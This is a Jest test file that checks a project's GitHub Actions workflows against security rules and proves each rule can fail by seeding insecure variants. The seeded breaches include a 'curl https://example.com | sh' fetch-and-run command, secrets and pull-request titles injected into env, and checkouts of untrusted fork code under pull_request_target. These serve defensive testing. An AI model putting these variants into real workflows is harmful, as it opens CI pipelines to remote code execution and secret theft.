import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from '@jest/globals';
import { build } from 'esbuild';
import type { ParsedWorkflow, WorkflowText } from './support/parse-workflows.ts';
import { STEP, TRIALS, WORKFLOW as REFRESH } from '../src/github/refresh-runs.ts';
import { SOURCES } from '../src/sources/index.ts';
import { groupBy } from '../src/core/text/group-by.ts';
import { ROOT } from './support/project.ts';
import { workflowRules } from './support/workflow-rules.ts';

const FOLDER = join(ROOT, '.github/workflows');
const names = readdirSync(FOLDER).sort();
const texts = names.map((name): WorkflowText => ({ name, text: readFileSync(join(FOLDER, name), 'utf8') }));

const scripts = new Set(
  Object.keys((JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')) as { scripts: object }).scripts),
);

type Rule = keyof typeof workflowRules;
const rules = Object.keys(workflowRules) as Rule[];

/** What a rule says against a workflow with one part of it replaced, so that the rule is seen to be able to fail. */
interface Breach {
  readonly rule: Rule;
  readonly breach: string;
  readonly of: string;
  readonly from: string | RegExp;
  readonly to: string;
}

/** The pin of an action, and one of an action that nobody has. */
const PIN = /@[0-9a-f]{40} # v[\d.]+/;
const NO_PIN = `@${'0'.repeat(40)} # v1.0`;

const breaches: readonly Breach[] = [
  { rule: 'is valid for GitHub', breach: 'an unknown key', of: 'ci.yml', from: 'runs-on', to: 'run-on' },
  {
    rule: 'is valid for GitHub',
    breach: 'an unknown context',
    of: 'ci.yml',
    from: 'github.ref }}',
    to: 'gitub.ref }}',
  },
  { rule: 'is valid for GitHub', breach: 'no YAML', of: 'ci.yml', from: 'jobs:', to: 'jobs: [' },
  {
    rule: 'pins every action to a full commit, with the version in a comment',
    breach: 'a tag',
    of: 'ci.yml',
    from: PIN,
    to: '@v1',
  },
  {
    rule: 'pins every action to a full commit, with the version in a comment',
    breach: 'no version',
    of: 'ci.yml',
    from: / # v[\d.]+/,
    to: '',
  },
  {
    rule: 'runs one command that anyone can run, with nothing put into it',
    breach: 'event data',
    of: 'contribution-check.yml',
    from: '--checkout pull-request',
    to: '--author ${{ github.event.pull_request.user.login }}',
  },
  {
    rule: 'runs one command that anyone can run, with nothing put into it',
    breach: 'a script in YAML',
    of: 'contribution-check.yml',
    from: 'npm ci --omit=dev',
    to: 'npm ci && curl https://example.com | sh',
  },
  {
    rule: 'runs one command that anyone can run, with nothing put into it',
    breach: 'a script that is not there',
    of: 'contribution-report.yml',
    from: 'run report-contribution',
    to: 'run report-contributions',
  },
  {
    rule: 'keeps no credentials in a checkout',
    breach: 'kept',
    of: 'contribution-check.yml',
    from: 'persist-credentials: false',
    to: 'persist-credentials: true',
  },
  {
    rule: 'keeps no credentials in a checkout',
    breach: 'not told',
    of: 'scorecard.yml',
    from: / +with:\n +persist-credentials: false\n/,
    to: '',
  },
  {
    rule: 'never runs on a comment, nor for a pull request on chosen paths',
    breach: 'a comment',
    of: 'contribution-check.yml',
    from: 'pull_request:',
    to: 'issue_comment:',
  },
  {
    rule: 'never runs on a comment, nor for a pull request on chosen paths',
    breach: 'in a list',
    of: 'contribution-check.yml',
    from: /on:\n(.*\n){3}/,
    to: 'on: [push, issue_comment]\n',
  },
  {
    rule: 'never runs on a comment, nor for a pull request on chosen paths',
    breach: 'paths',
    of: 'contribution-check.yml',
    from: 'types: [opened, synchronize, reopened, edited]',
    to: "paths: ['contributions/**']",
  },
  {
    rule: 'takes nothing but the default branch where it runs on pull_request_target',
    breach: 'on pull_request, too',
    of: 'contribution-report.yml',
    from: '  workflow_dispatch:\n',
    to: '  workflow_dispatch:\n  pull_request:\n',
  },
  {
    rule: 'takes nothing but the default branch where it runs on pull_request_target',
    breach: 'the file of a merge group',
    of: 'contribution-report.yml',
    from: '  workflow_dispatch:\n',
    to: '  workflow_dispatch:\n  merge_group:\n',
  },
  {
    rule: 'takes nothing but the default branch where it runs on pull_request_target',
    breach: 'may write contents',
    of: 'contribution-report.yml',
    from: 'contents: read',
    to: 'contents: write',
  },
  {
    rule: 'takes nothing but the default branch where it runs on pull_request_target',
    breach: 'may write more',
    of: 'contribution-report.yml',
    from: 'statuses: write',
    to: 'actions: write # to start others\n      statuses: write',
  },
  {
    rule: 'takes nothing but the default branch where it runs on pull_request_target',
    breach: 'checks out what the event names',
    of: 'contribution-report.yml',
    from: '          ref: main\n',
    to: '',
  },
  {
    rule: 'takes nothing but the default branch where it runs on pull_request_target',
    breach: 'checks out the head',
    of: 'contribution-report.yml',
    from: 'ref: main',
    to: 'ref: ${{ github.event.pull_request.head.sha }}',
  },
  {
    rule: 'takes nothing but the default branch where it runs on pull_request_target',
    breach: 'checks out the merge',
    of: 'contribution-report.yml',
    from: 'ref: main',
    to: 'ref: refs/pull/1/merge',
  },
  {
    rule: 'takes nothing but the default branch where it runs on pull_request_target',
    breach: 'hands over the title',
    of: 'contribution-report.yml',
    from: 'env:\n',
    to: 'env:\n          TITLE: ${{ github.event.pull_request.title }}\n',
  },
  {
    rule: 'takes nothing but the default branch where it runs on pull_request_target',
    breach: 'hands over a secret',
    of: 'contribution-report.yml',
    from: 'env:\n',
    to: 'env:\n          KEY: ${{ secrets.KEY }}\n',
  },
  {
    rule: 'takes nothing but the default branch where it runs on pull_request_target',
    breach: 'the check of a fork',
    of: 'contribution-check.yml',
    from: 'pull_request:',
    to: 'pull_request_target:',
  },
  {
    rule: 'gives no permission by default, and each job its own with a reason',
    breach: 'none at the top',
    of: 'ci.yml',
    from: 'permissions: {}\n',
    to: '',
  },
  {
    rule: 'gives no permission by default, and each job its own with a reason',
    breach: 'no reason',
    of: 'contribution-report.yml',
    from: / # to set the commit.*/,
    to: '',
  },
  {
    rule: 'gives no permission by default, and each job its own with a reason',
    breach: 'everything',
    of: 'ci.yml',
    from: /permissions:\n.*contents: read.*\n/,
    to: 'permissions: write-all # because\n',
  },
  {
    rule: 'gives no permission by default, and each job its own with a reason',
    breach: 'none in a job',
    of: 'ci.yml',
    from: /permissions:\n.*contents: read.*\n/,
    to: '',
  },
  {
    rule: 'has a concurrency group, and a timeout for every job',
    breach: 'no timeout',
    of: 'codeql.yml',
    from: /timeout-minutes:.*\n/,
    to: '',
  },
  {
    rule: 'has a concurrency group, and a timeout for every job',
    breach: 'no group',
    of: 'codeql.yml',
    from: /concurrency:\n.*\n.*\n/,
    to: '',
  },
  {
    rule: 'touches nothing of a pull request in a job that may write',
    breach: 'checks out the head',
    of: 'contribution-report.yml',
    from: 'ref: main',
    to: 'ref: ${{ github.event.workflow_run.head_sha }}',
  },
  {
    rule: 'touches nothing of a pull request in a job that may write',
    breach: 'checks out the fork',
    of: 'contribution-report.yml',
    from: 'persist-credentials: false',
    to: 'persist-credentials: false\n          repository: ${{ github.event.workflow_run.head_repository.full_name }}',
  },
  {
    rule: 'touches nothing of a pull request in a job that may write',
    breach: 'downloads an artifact',
    of: 'contribution-report.yml',
    from: '- run: npm ci',
    to: `- uses: actions/download-artifact${NO_PIN}\n      - run: npm ci`,
  },
  {
    rule: 'touches nothing of a pull request in a job that may write',
    breach: 'downloads what another run handed on',
    of: 'refresh-sources.yml',
    from: 'pattern: refresh-*',
    to: 'pattern: refresh-*\n          run-id: 1\n          github-token: ${{ github.token }}',
  },
  {
    rule: 'installs what it needs to run, and no more, in a job that may write',
    breach: 'everything',
    of: 'refresh-sources.yml',
    from: 'npm ci --omit=dev',
    to: 'npm ci',
  },
  {
    rule: 'touches nothing of a pull request in a job that may write',
    breach: 'hands over a name',
    of: 'contribution-report.yml',
    from: 'env:\n',
    to: 'env:\n          BRANCH: ${{ github.event.workflow_run.head_branch }}\n',
  },
  {
    rule: 'touches nothing of a pull request in a job that may write',
    breach: 'writes on pull_request',
    of: 'ci.yml',
    from: 'contents: read',
    to: 'contents: write',
  },
  {
    rule: 'touches nothing of a pull request in a job that may write',
    breach: 'a release of any commit',
    of: 'release.yml',
    from: 'ref: refs/tags/${{ needs.prepare.outputs.tag }}',
    to: 'ref: ${{ inputs.publish }}',
  },
  {
    rule: 'touches nothing of a pull request in a job that may write',
    breach: 'a release from a pull request',
    of: 'release.yml',
    from: '  workflow_dispatch:\n',
    to: '  pull_request:\n  workflow_dispatch:\n',
  },
  {
    rule: 'touches nothing of a pull request in a job that may write',
    breach: "another repository's workflow",
    of: 'release.yml',
    from: './.github/workflows/pages.yml',
    to: `owner/repository/.github/workflows/pages.yml${NO_PIN}`,
  },
  {
    rule: 'runs for the default branch or a tag alone where it has a secret',
    breach: 'on pull_request',
    of: 'release.yml',
    from: '  workflow_dispatch:\n',
    to: '  pull_request:\n  workflow_dispatch:\n',
  },
  {
    rule: 'keeps no cache between runs',
    breach: 'packages',
    of: 'release.yml',
    from: 'package-manager-cache: false',
    to: 'cache: npm',
  },
  {
    rule: 'runs one command that anyone can run, with nothing put into it',
    breach: 'an input',
    of: 'release.yml',
    from: 'npm run release -- --public',
    to: 'npm run release -- --date ${{ inputs.date }}',
  },
  {
    rule: 'has a concurrency group, and a timeout for every job',
    breach: 'no timeout beside a job that is a workflow',
    of: 'release.yml',
    from: /timeout-minutes:.*\n/,
    to: '',
  },
];

const worse = breaches.map(({ of, from, to }): WorkflowText => {
  const text = texts.find(({ name }) => name === of)?.text ?? '';
  return { name: of, text: text.replace(from, () => to) };
});

let parsed: readonly ParsedWorkflow[] = [];

beforeAll(() => {
  const input = JSON.stringify([...texts, ...worse]);
  const output = execFileSync(process.execPath, ['--import', 'tsx', join(ROOT, 'test/support/parse-workflows.ts')], {
    cwd: ROOT,
    input,
    maxBuffer: 1e8,
  });
  parsed = JSON.parse(output.toString('utf8')) as ParsedWorkflow[];
});

/** What the rule says against the workflow at `index` of all that were parsed. */
function against(rule: Rule, index: number): string[] {
  const workflow = parsed[index];
  if (workflow === undefined) throw new Error(`Nothing was parsed at ${index}`);
  return workflowRules[rule](workflow, scripts);
}

describe.each(names.map((name, index) => ({ name, index })))('$name', ({ index }) => {
  test.each(rules)('%s', (rule) => {
    expect(against(rule, index)).toEqual([]);
  });
});

describe('each of these rules can fail', () => {
  test.each(breaches.map((breach, index) => ({ ...breach, index })))('$rule: $breach', ({ rule, of, index }) => {
    expect(worse[index]?.text).not.toBe(texts.find(({ name }) => name === of)?.text);
    expect(against(rule, names.length + index)).not.toEqual([]);
  });

  test('none is without a breach', () => {
    expect([...new Set(breaches.map(({ rule }) => rule))].sort()).toEqual([...rules].sort());
  });
});

test('the workflows are the ones that SECURITY.md tells of', () => {
  const told = [...readFileSync(join(ROOT, 'SECURITY.md'), 'utf8').matchAll(/^\| `([\w-]+\.yml)`/gm)].map((m) => m[1]);
  expect(told.sort()).toEqual(names);
});

/** What a workflow says. */
function contentOf(name: string): Readonly<Record<string, unknown>> {
  return parsed[names.indexOf(name)]?.content as Readonly<Record<string, unknown>>;
}

describe('the verdict', () => {
  interface On {
    readonly pull_request_target: { readonly types: readonly string[] };
    readonly push: unknown;
  }
  const on = (): On => contentOf('contribution-report.yml')['on'] as On;

  test('is given whatever happens to a pull request, on every change of the default branch, and every hour', () => {
    const moments = ['opened', 'synchronize', 'reopened', 'edited', 'closed', 'labeled', 'unlabeled'];
    expect([...on().pull_request_target.types].sort()).toEqual(moments.sort());
    expect(on().push).toEqual({ branches: ['main'] });
    expect(Object.keys(on())).toEqual(expect.arrayContaining(['workflow_call', 'workflow_dispatch', 'schedule']));
  });
});

test('an action has one version in all workflows, so that a newer one comes everywhere at once', () => {
  const uses = names.flatMap((name) => [
    ...readFileSync(join(ROOT, '.github/workflows', name), 'utf8').matchAll(/uses: ([\w/-]+)@(\w{40} # \S+)/g),
  ]);
  const pins = groupBy(uses, ([, action]) => action ?? '');
  expect(pins.length).toBeGreaterThan(5);
  expect(pins.filter(([, of]) => new Set(of.map(([, , pin]) => pin)).size > 1)).toEqual([]);
});

test('no newer version is proposed of what a decision holds back', () => {
  const config = readFileSync(join(ROOT, '.github/dependabot.yml'), 'utf8');
  const ignored = [...config.matchAll(/dependency-name: '?([\w@/-]+)'?\n +update-types: \[(.*)\]/g)];
  const decision = readFileSync(join(ROOT, 'docs/decisions/node-20.md'), 'utf8');
  const [line = ''] = /- packages held at their last version[^]*?;/.exec(decision) ?? [];
  const held = [...line.matchAll(/`([^`]+)` \d+/g)].map(([, name]) => name);
  expect(held.length).toBeGreaterThan(2);
  // TypeScript is held by what typescript-eslint takes, which is a range of minor versions; all else by a major one.
  const [major, minor] = ["'version-update:semver-major'", "'version-update:semver-minor'"];
  const expected = [...held.map((name) => [name, major]), ['typescript', `${major}, ${minor}`]];
  expect(ignored.map(([, name, types]) => [name, types]).sort()).toEqual(expected.sort());
  expect(config.match(/dependency-name/g)).toHaveLength(ignored.length);
  const packages = readFileSync(join(ROOT, 'package.json'), 'utf8');
  for (const [, name] of ignored) expect(packages).toContain(`"${name ?? ''}": "`);
});

test('a release and a deployment are one at a time, and none that has begun is stopped', () => {
  const groups = ['release.yml', 'pages.yml'].map((name) => {
    const { concurrency } = parsed[names.indexOf(name)]?.content as { concurrency: Record<string, unknown> };
    return concurrency;
  });
  expect(groups.map((group) => group['cancel-in-progress'])).toEqual([false, false]);
  expect(new Set(groups.map(({ group }) => group)).size).toBe(2);
});

describe('the refresh of sources', () => {
  interface Refreshing {
    readonly name: string;
    readonly strategy: { readonly matrix: { readonly source: readonly string[] } };
    readonly steps: readonly Readonly<Record<string, unknown>>[];
  }
  const jobs = (): Readonly<Record<'refresh' | 'report', Refreshing>> =>
    (parsed[names.indexOf(REFRESH)]?.content as { jobs: ReturnType<typeof jobs> }).jobs;
  const job = (): Refreshing => jobs().refresh;

  test('has a job for every source that has a data URL, and no other', () => {
    const sources = SOURCES.map(({ id }) => {
      const text = readFileSync(join(ROOT, `data/${id}/source.json`), 'utf8');
      return { id, dataUrl: (JSON.parse(text) as { data_url: string | null }).data_url };
    });
    const downloaded = sources.filter(({ dataUrl }) => dataUrl !== null).map(({ id }) => id);
    expect(downloaded.length).toBeLessThan(sources.length);
    expect(job().strategy.matrix.source).toEqual(downloaded.sort());
  });

  test('hands on what was found before build and tests, which run packages that the report does without', () => {
    const at = (part: Readonly<Record<string, unknown>>): number =>
      job().steps.findIndex((step) => Object.entries(part).every(([key, value]) => step[key] === value));
    const upload = job().steps.findIndex(({ uses }) => String(uses).startsWith('actions/upload-artifact@'));
    expect(upload).toBe(at({ name: STEP }) + 1);
    for (const name of TRIALS.values()) expect(at({ name })).toBeGreaterThan(upload);
  });

  test('gives its token to the step that reports, and to no other', () => {
    const given = Object.values(jobs()).flatMap(({ steps = [] }) =>
      steps.filter((step) => JSON.stringify(step).includes('github.token')).map(({ run }) => run),
    );
    expect(given).toEqual(['npm run report-refresh -- dist/refresh']);
    expect(jobs().refresh).toMatchObject({ permissions: { contents: 'read' } });
  });
});

test('the site is put online again when anything changes that its pages are made of', async () => {
  const { content } = parsed[names.indexOf('pages.yml')] ?? {};
  const { on } = content as { on: { push: { paths: string[] } } };
  const isWatched = (file: string): boolean =>
    on.push.paths.some((path) => (path.endsWith('/**') ? file.startsWith(path.slice(0, -2)) : file === path));
  const { metafile } = await build({
    entryPoints: [join(ROOT, 'scripts/site.ts')],
    absWorkingDir: ROOT,
    bundle: true,
    metafile: true,
    write: false,
    format: 'esm',
    platform: 'node',
    packages: 'external',
    logLevel: 'silent',
  });
  const modules = Object.keys(metafile.inputs);
  expect(modules.length).toBeGreaterThan(100);
  const islands = readdirSync(join(ROOT, 'site'), { recursive: true, encoding: 'utf8' }).map((file) => `site/${file}`);
  const others = ['schema/measurement.schema.json', 'package-lock.json', '.github/workflows/pages.yml'];
  expect([...modules, ...islands, ...others].filter((file) => !isWatched(file))).toEqual([]);
  // A release deploys what it changes itself, and a merged contribution is not online before one.
  for (const file of ['api/v1/index.json', 'data/service.json', 'contributions/a/b.json'])
    expect(isWatched(file)).toBe(false);
});
